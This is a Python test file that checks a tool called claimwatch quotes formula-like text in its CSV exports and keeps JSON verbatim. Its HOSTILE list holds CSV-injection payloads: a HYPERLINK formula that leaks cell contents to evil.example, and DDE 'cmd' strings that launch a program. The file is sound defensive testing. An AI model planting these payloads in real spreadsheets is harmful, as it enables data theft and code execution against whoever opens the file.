"""Every CSV claimwatch writes is inert in a spreadsheet; JSON stays verbatim (issue 18).

A text cell starting with =, +, -, @, tab or carriage return gets a leading ' (OWASP's
advice for CSV injection). Numbers are left numeric: a value of -0.8 is written -0.8.
"""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from click.testing import CliRunner

from claimwatch.cli import cli
from claimwatch.output import spreadsheet_safe
from db.schema import connect
from tests.db.factory import Factory

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_text_starting_like_a_formula_gets_a_quote(text: str) -> None:
    assert spreadsheet_safe(text) == "'" + text


@pytest.mark.parametrize("value", ["Sales rose 14.1%", "", "'=already quoted", -0.8, 12, None])
def test_other_cells_and_numbers_are_left_alone(value: object) -> None:
    assert spreadsheet_safe(value) == value


@pytest.fixture
def hostile_db(tmp_path: Path) -> Path:
    """Articles and claims whose text begins like spreadsheet formulas, and a -0.8 figure."""
    path = tmp_path / "claimwatch.db"
    db = connect(path)
    make = Factory(db)
    run = make.run("wire", started_at="2026-12-01T08:00:00+00:00")
    for number, text in enumerate(HOSTILE):
        sentence = (
            text.replace("\t", "").replace("\r", "") + f" cut the rate by -0.8 points {number}."
        )
        leading = text[0] if text[0] in "\t\r" else ""
        version = make.article(
            f"https://wire.example/2026/12/0{number + 1}/story",
            leading + sentence,
            title=text,
            authors=[text],
            published=f"2026-12-0{number + 1}T09:00:00+00:00",
            run_id=run,
            seen="2026-12-01T10:00:00+00:00",
        )
        claim = make.claim(version, "-0.8 points", -0.8, "points", kind="change")
        make.flag("new", claim, created_at="2026-12-02T10:00:00+00:00")
    db.close()
    return path


def _csv(runner: CliRunner, db: Path, *args: str) -> list[dict[str, str]]:
    result = runner.invoke(cli, ["--db", str(db), *args, "--format", "csv"])
    assert result.exit_code == 0, result.output
    return list(csv.DictReader(io.StringIO(result.stdout)))


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def _dangerous(rows: list[dict[str, str]]) -> list[str]:
    """Cells a spreadsheet would run: text (not a number) starting like a formula."""
    return [
        cell
        for row in rows
        for cell in row.values()
        if cell and cell[0] in "=+-@\t\r" and not _number(cell)
    ]


def test_claims_articles_flags_sources_csv_are_inert(runner: CliRunner, hostile_db: Path) -> None:
    for command in (["claims"], ["articles"], ["flags"], ["sources"], ["runs"]):
        rows = _csv(runner, hostile_db, *command)
        assert _dangerous(rows) == [], command
    claims = _csv(runner, hostile_db, "claims")
    assert len(claims) == len(HOSTILE)
    assert {row["value"] for row in claims} == {"-0.8"}  # numbers stay numbers
    assert {row["sentence"][:2] for row in claims} == {"'=", "'+", "'-", "'@"}
    titles = {row["title"] for row in _csv(runner, hostile_db, "articles")}
    assert titles == {"'" + text for text in HOSTILE}


def test_digest_csv_is_inert(runner: CliRunner, hostile_db: Path) -> None:
    result = runner.invoke(
        cli,
        ["--db", str(hostile_db), "digest", "--since", "2026-12-01", "--until", "2026-12-08"]
        + ["--format", "csv"],
    )
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    assert rows and _dangerous(rows) == []


def test_json_keeps_the_text_verbatim(runner: CliRunner, hostile_db: Path) -> None:
    result = runner.invoke(cli, ["--db", str(hostile_db), "articles", "--format", "json"])
    assert result.exit_code == 0, result.output
    assert {record["title"] for record in json.loads(result.stdout)} == set(HOSTILE)
